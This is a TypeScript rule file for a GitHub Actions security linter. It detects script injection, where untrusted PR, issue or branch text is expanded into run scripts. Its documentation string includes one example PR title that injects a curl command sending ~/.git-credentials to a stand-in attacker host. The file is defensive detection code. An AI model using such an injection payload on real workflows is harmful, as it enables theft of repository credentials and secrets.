import { defineRule } from '../../src/engine/rule.js';
import type { WorkflowEnvEntry } from '../../src/model/workflows/types.js';
import { SCRIPT_INJECTIONS, SECURE_USE, expressions, judgedWorkflow, references, spanIn, stepLabel, stepScripts, untrustedContext } from './GHA0.common.js';

export default defineRule({
  meta: {
    id: 'GHA003',
    name: 'ScriptInjection',
    title: 'Attacker-controlled text is expanded into a script',
    severity: 'high',
    section: 'ci-cd',
    docs: {
      whatItDoes:
        "Reports `${{ }}` expressions inside `run:` scripts (and actions/github-script's `script:`) that expand text an outsider writes: issue, pull request and discussion titles and bodies, comment and review bodies, branch names (`github.head_ref`, `pull_request.head.ref`), commit messages and author names, wiki page names. Only contexts the workflow's triggers can fill are reported (a reusable workflow can be called by any event); an `env.X` expression whose X was set from such a context counts too. Passing the value through an environment variable (`env: TITLE: ${{ ... }}` then `\"$TITLE\"`) is the fix and is not reported.",
      whyIsThisBad:
        'GitHub pastes the expression\'s value into the script before the shell runs it, so a pull request titled `a"; curl -d @$HOME/.git-credentials evil.example #` runs the attacker\'s command on the runner, with the job\'s token and secrets; under pull_request_target, issue_comment or workflow_run that token can write to the repository and publish releases.',
      example: '- run: echo "Deploying ${{ github.event.pull_request.title }}"',
      useInstead: '- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "Deploying $TITLE"',
    },
    fix: 'Move every untrusted value into an environment variable of the step (`env:`) and use it quoted in the script ("$TITLE"); in github-script read it from `context.payload` instead of an expression.',
    references: [SCRIPT_INJECTIONS, 'https://securitylab.github.com/resources/github-actions-untrusted-input/', `${SECURE_USE}#good-practices-for-mitigating-script-injection-attacks`],
    tags: ['github-actions', 'security', 'injection'],
  },
  scope: 'workflow',
  check(wf, ctx) {
    if (!judgedWorkflow(wf, ctx)) return;
    /** Environment variables set from untrusted contexts, per scope. */
    const tainted = (env: Map<string, WorkflowEnvEntry>): Map<string, string> => {
      const out = new Map<string, string>();
      for (const [name, e] of env) {
        const ref = expressions(e.value).flatMap((x) => references(x.inner)).find((r) => untrustedContext(r, wf));
        if (ref) out.set(name, ref);
      }
      return out;
    };
    const wfTainted = tainted(wf.env);
    for (const job of wf.jobs) {
      const jobTainted = new Map([...wfTainted, ...tainted(job.env)]);
      for (const step of job.steps) {
        const envTainted = new Map([...jobTainted, ...tainted(step.env)]);
        for (const { text, language } of stepScripts(step)) {
          for (const x of expressions(text.value)) {
            for (const ref of references(x.inner)) {
              const direct = untrustedContext(ref, wf);
              const via = /^env\.([\w-]+)$/.exec(ref)?.[1];
              const source = direct ? ref : via ? envTainted.get(via) : undefined;
              if (!source) continue;
              const label = stepLabel(job, step);
              ctx.report({
                message: `${label}: \${{ ${x.inner} }} ${direct ? '' : `(set from ${source}) `}is pasted into the ${language === 'shell' ? 'shell script' : 'github-script code'} before it runs: whoever writes ${describe(source)} can run commands with the job's token and secrets; pass it through env: and use "$VAR"`,
                span: spanIn(text, x.from, x.to),
                target: `${job.id}:${step.index}:${ref}`,
              });
              break;
            }
          }
        }
      }
    }
  },
});

function describe(ref: string): string {
  if (/head_ref|head\.ref|head_branch/.test(ref)) return 'the branch name';
  if (/title/.test(ref)) return 'the title';
  if (/body/.test(ref)) return 'the text';
  if (/message/.test(ref)) return 'the commit message';
  if (/author|committer/.test(ref)) return 'the commit author';
  if (/label/.test(ref)) return 'the branch label';
  return 'that value';
}
